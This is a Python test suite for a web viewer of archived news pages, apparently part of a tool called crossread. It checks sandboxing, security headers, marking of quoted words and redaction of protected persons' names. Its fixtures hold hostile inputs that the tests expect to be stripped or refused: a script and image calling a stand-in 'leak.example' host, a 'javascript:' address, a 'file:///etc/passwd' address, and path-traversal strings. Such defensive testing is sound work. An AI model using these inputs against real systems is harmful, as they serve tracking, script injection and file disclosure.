"""The archived copy at the desk: what is told of it, the frame, its answer, the text instead of it, and protected persons."""

import gzip
import re
import shutil
from collections import OrderedDict
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from threading import Semaphore
from types import SimpleNamespace
from typing import cast

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from crossread.interfaces.desk import archived as desk_archived
from crossread.interfaces.desk.seen_by import Seen
from crossread.runners import Lost, Runner
from crossread.runners.inline import InlineRunner
from crossread.services import archived as service
from crossread.services.archived import SMALL, Archived, Shown
from crossread.services.collect import bring_in
from crossread.services.progress import silent
from crossread.services.protect import protect, unprotect
from crossread.stages.protect import NO_MASK, Mask
from crossread.storage.library import Library, open_library
from crossread.types.document import Document
from crossread.types.protected import Person
from tests.interfaces.desk.asking import client, desk_app

TEXT = (
    "At least 12 people were killed when the dam above Marren broke on Monday, the governor, Ilya Torvald, said on state television in the evening. "
    "Rescue teams from three districts were still searching the valley below the dam late at night, and roads were closed."
)
HTML = (
    "<!doctype html><html lang=en><head><title>Dam breaks above Marren</title><style>.t{color:#123456}</style></head><body><article>"
    "<h1 class=t>Dam breaks above Marren</h1><p>%s</p>"
    "<p>The river rose by four metres in one hour, an engineer of the water board told reporters at the bridge on Tuesday.</p>"
    "<script>fetch('//leak.example/x')</script><img src=//leak.example/i.png alt='The broken dam'></article></body></html>"
)
WORDS = "At least 12 people were killed"


@dataclass(frozen=True, slots=True, kw_only=True)
class Asked:
    """A desk, and what stands in its one library.

    Attributes:
        client: asks it.
        app: the desk.
        folder: the library.
        pages: the SHA-256 of each page, by the name of its file.
        documents: what was read of each, by SHA-256.
    """

    client: TestClient
    app: FastAPI
    folder: Path
    pages: dict[str, str]
    documents: dict[str, Document]

    @property
    def library(self) -> Library:
        """The library as the desk has opened it."""
        found = self.app.state.desk
        library: Library = found.library(found.collections["east"])
        return library


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A library with a page of HTML, the same compressed, a PDF that is none, and a text."""
    files = tmp_path_factory.mktemp("files")
    (files / "dam.html").write_text(HTML % TEXT)
    (files / "packed.html.gz").write_bytes(gzip.compress((HTML % TEXT.replace("12", "15")).encode()))
    (files / "report.pdf").write_bytes(b"%PDF-1.4\nnothing that can be read")
    (files / "plain.txt").write_text(
        f"Dam breaks\n\n{TEXT}\n\nThe <b>mayor</b> of Marren said nothing about it on Monday or Tuesday, her office confirmed."
    )
    folder = tmp_path_factory.mktemp("made") / "library"
    with open_library(folder, make=True) as library:
        bring_in(library, [str(files)], "dam", InlineRunner(), silent)
    return folder


@pytest.fixture
def desk(made: Path, tmp_path: Path) -> Asked:
    """A desk over a library of its own for each test."""
    desk_archived._copies.clear()  # noqa: SLF001  # what one test made must not answer another
    shutil.copytree(made, tmp_path / "library")
    app = desk_app({"east": tmp_path / "library"})
    with open_library(tmp_path / "library") as library:
        pages = {Path(page.address).name: page.sha256 for page in library.store.pages()}
        documents = {one.page_sha256: one for one in library.store.documents()}
    return Asked(client=client(app), app=app, folder=tmp_path / "library", pages=pages, documents=documents)


def at(desk: Asked, name: str, **query: str) -> str:
    """A desk, the name of a file and a query in, the address of its archived copy out."""
    return f"/c/east/archive/{desk.pages[name]}" + ("?" + "&".join(f"{key}={value}" for key, value in query.items()) if query else "")


def span(document: Document, words: str) -> str:
    """A document and words in it in, how their place is asked for out."""
    start = document.text.index(words)
    return f"text-{start}-{start + len(words)}"


def framed(browser: TestClient, page: str) -> str:
    """A client and a page in, the body of the copy in its frame out."""
    frame = re.search(r'<iframe class="archived-copy" src="([^"]+)" sandbox=""', page)
    assert frame, page
    answer = browser.get(frame[1].replace("&amp;", "&").partition("#")[0])
    assert answer.status_code == 200
    csp = answer.headers["content-security-policy"]
    assert csp.startswith("sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:;")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "no-referrer"
    assert "allow" not in csp
    return answer.text


def test_a_page_is_told_of_and_shown_with_its_words_marked(desk: Asked):
    document = desk.documents[desk.pages["dam.html"]]
    page = desk.client.get(at(desk, "dam.html", span=span(document, WORDS)))
    assert page.status_code == 200
    assert "Dam breaks above Marren" in page.text
    assert desk.pages["dam.html"] in page.text
    assert "read in full" in page.text
    assert "2026-" in page.text or "Captured" in page.text
    assert f"<mark>{WORDS}</mark>" in page.text
    assert "#crossread-words" in page.text
    copy = framed(desk.client, page.text)
    assert f'<mark id="crossread-words" class="crossread-words">{WORDS}</mark>' in copy
    assert "script" not in copy.replace("crossread", "")
    assert "leak.example/i" not in copy
    assert "[The broken dam]" in copy
    assert ".t{color:#123456}" in copy


def test_words_are_found_by_themselves_too(desk: Asked):
    assert "<mark id=" in framed(desk.client, desk.client.get(at(desk, "dam.html", words="Rescue%20teams")).text)
    page = desk.client.get(at(desk, "dam.html", words="never%20said"))
    assert "could not be marked" in page.text
    assert "<mark" not in framed(desk.client, page.text)


def test_a_live_page_is_opened_at_the_words(desk: Asked):
    with open_library(desk.folder) as library:
        entry = library.store.documents()[0]
    one = Archived(
        page=SimpleNamespace(address="https://news.example/dam"),  # type: ignore[arg-type]
        document=replace(entry, address="https://news.example/dam"),
        captures=(),
        span=entry.span(0, 8),
        wanted=None,
        may_have_bytes=True,
    )
    seen = cast("Seen", SimpleNamespace(mask=NO_MASK))
    assert desk_archived._live(one, seen).startswith("https://news.example/dam#:~:text=")  # noqa: SLF001
    assert desk_archived._live(replace(one, span=None), seen) == "https://news.example/dam"  # noqa: SLF001
    hostile = replace(one, document=replace(entry, address="javascript:alert(1)"), page=SimpleNamespace(address="file:///etc/passwd"))  # type: ignore[arg-type]
    assert desk_archived._live(hostile, seen) == ""  # noqa: SLF001


@pytest.mark.parametrize("wrong", ["0" * 64, "x", "A" * 64, "..%2f..", "%00"])
def test_what_is_not_in_the_archive_is_nowhere(desk: Asked, wrong: str):
    for path in ("", "/copy", "/bytes"):
        assert desk.client.get(f"/c/east/archive/{wrong}{path}").status_code == 404


@pytest.mark.parametrize("wrong", ["text-5-5", "text-9-2", "text-0-99999999", "title-0-999", "x", "text--1-5", "text-0-1;"])
def test_words_that_no_document_has_are_nowhere(desk: Asked, wrong: str):
    assert desk.client.get(at(desk, "dam.html", span=wrong)).status_code == 404


def test_a_plain_text_is_shown_as_it_is(desk: Asked):
    page = desk.client.get(at(desk, "plain.txt", words=WORDS.replace(" ", "%20")))
    copy = framed(desk.client, page.text)
    assert "The &lt;b&gt;mayor&lt;/b&gt; of Marren" in copy
    assert copy.count("<mark id=") == 1


def test_a_pdf_is_not_shown_and_can_be_had(desk: Asked):
    page = desk.client.get(at(desk, "report.pdf"))
    assert "because it is a PDF" in page.text
    assert "cannot be shown" in framed(desk.client, page.text)
    got = desk.client.get(f"{at(desk, 'report.pdf')}/bytes")
    assert got.content == b"%PDF-1.4\nnothing that can be read"
    assert got.headers["content-type"] == "application/octet-stream"
    assert got.headers["content-disposition"] == f'attachment; filename="hostile-{desk.pages["report.pdf"][:16]}.bin"'
    assert got.headers["content-security-policy"].startswith("sandbox; default-src 'none'")


def test_what_takes_too_long_is_shown_as_its_text(desk: Asked, monkeypatch: pytest.MonkeyPatch):
    class Slow:
        def __init__(self, *_: object, **__: object) -> None: ...

        def run(self, _function: object, _items: object) -> Iterator[Lost]:
            """Nothing comes of it."""
            yield Lost(why="It took longer than 10 s and was stopped.", is_overdue=True)

    monkeypatch.setattr(desk_archived, "PoolRunner", Slow)
    document = desk.documents[desk.pages["packed.html.gz"]]
    page = desk.client.get(at(desk, "packed.html.gz", span=span(document, "At least 15 people")))
    assert "because it took too long to take apart" in page.text
    copy = framed(desk.client, page.text)
    assert '<mark id="crossread-words" class="crossread-words">At least 15 people</mark>' in copy
    assert "Rescue teams" in copy


def test_large_and_compressed_pages_are_taken_apart_elsewhere(desk: Asked):
    with open_library(desk.folder) as library:
        pages = {Path(page.address).name: page for page in library.store.pages()}
        assert service._is_small(pages["dam.html"], library)  # noqa: SLF001
        assert not service._is_small(pages["packed.html.gz"], library)  # noqa: SLF001
        assert not service._is_small(replace(pages["dam.html"], size=SMALL + 1), library)  # noqa: SLF001


def test_a_damaged_page_is_told_and_not_shown(desk: Asked):
    sha256 = desk.pages["plain.txt"]
    (desk.folder / "archive" / sha256[:2] / sha256).write_bytes(b"other")
    assert desk.client.get(at(desk, "plain.txt")).status_code == 503
    assert desk.client.get(f"{at(desk, 'plain.txt')}/bytes").status_code == 503


def leaks(desk: Asked, name: str, secret: str) -> list[str]:
    """A desk, a file and a name in, where the name stands in what the desk answers out."""
    found = []
    for path in ("", "/copy", "/bytes", "?words=the%20governor", "/copy?span=text-60-120", "?span=text-60-120"):
        answer = desk.client.get(at(desk, name) + path)
        if secret.casefold() in (answer.text + str(answer.headers)).casefold():
            found.append(path)
    return found


def test_a_protected_person_is_in_no_copy(desk: Asked):
    assert leaks(desk, "dam.html", "torvald")
    library = desk.library
    number = protect(library, Person(names=("Ilya Torvald",)), "ana")
    for name in ("dam.html", "plain.txt"):
        assert leaks(desk, name, "torvald") == []
        page = desk.client.get(at(desk, name))
        assert "Somebody who is protected" in page.text
        assert "The bytes as captured" not in page.text
        copy = framed(desk.client, page.text)
        assert "█" in copy
        assert "Rescue teams" in copy
        assert desk.client.get(f"{at(desk, name)}/bytes").status_code == 404
    unprotect(library, number, "ana")
    assert leaks(desk, "dam.html", "torvald")


def test_a_name_that_only_the_page_has_is_in_no_copy(desk: Asked, tmp_path: Path):
    """In a caption that no text has, in pieces, in an attribute."""
    html = HTML % TEXT.replace("Ilya Torvald", "a man") + "<aside>Photo: O<b>leh</b> Marchuk</aside><p title='Oleh Marchuk' class=x>See also</p>"
    (tmp_path / "aside.html").write_text(html)
    library = desk.library
    bring_in(library, [str(tmp_path / "aside.html")], "dam", InlineRunner(), silent)
    desk.pages["aside.html"] = next(page.sha256 for page in library.store.pages() if page.address.endswith("aside.html"))
    assert leaks(desk, "aside.html", "Marchuk")
    protect(library, Person(names=("Oleh Marchuk",)), "ana")
    assert leaks(desk, "aside.html", "Marchuk") == []
    assert "Dam breaks" in desk.client.get(at(desk, "aside.html")).text
    still = desk.client.get(at(desk, "dam.html"))
    assert "Somebody who is protected" not in still.text, "a page that does not name the person is shown as it looked"
    assert ".t{" not in framed(desk.client, still.text), "nobody looks for names in style sheets"


def test_a_copy_is_made_once_for_page_and_frame(desk: Asked, monkeypatch: pytest.MonkeyPatch):
    made: list[Archived] = []
    honest = desk_archived.shown

    def counted(library: Library, one: Archived, mask: Mask, runner: Runner) -> Shown:
        made.append(one)
        return honest(library, one, mask, runner)

    monkeypatch.setattr(desk_archived, "shown", counted)
    for _ in range(3):
        framed(desk.client, desk.client.get(at(desk, "dam.html")).text)
    assert len(made) == 1
    monkeypatch.setattr(desk_archived, "KEPT_COPIES", 1)
    framed(desk.client, desk.client.get(at(desk, "plain.txt")).text)
    assert len(desk_archived._copies) == 1  # noqa: SLF001


def test_who_waits_for_a_copy_leaves_threads_for_others(desk: Asked, monkeypatch: pytest.MonkeyPatch):
    address = f"/c/east/archive/{next(iter(desk.pages.values()))}"
    monkeypatch.setattr(desk_archived, "_copies", OrderedDict())
    monkeypatch.setattr(desk_archived, "_waiting", Semaphore(0))
    assert desk.client.get(address).status_code == 503
    monkeypatch.setattr(desk_archived, "_waiting", Semaphore(1))
    assert [desk.client.get(address).status_code for _ in range(2)] == [200, 200]
    assert desk.client.get(f"{address}/copy").status_code == 200
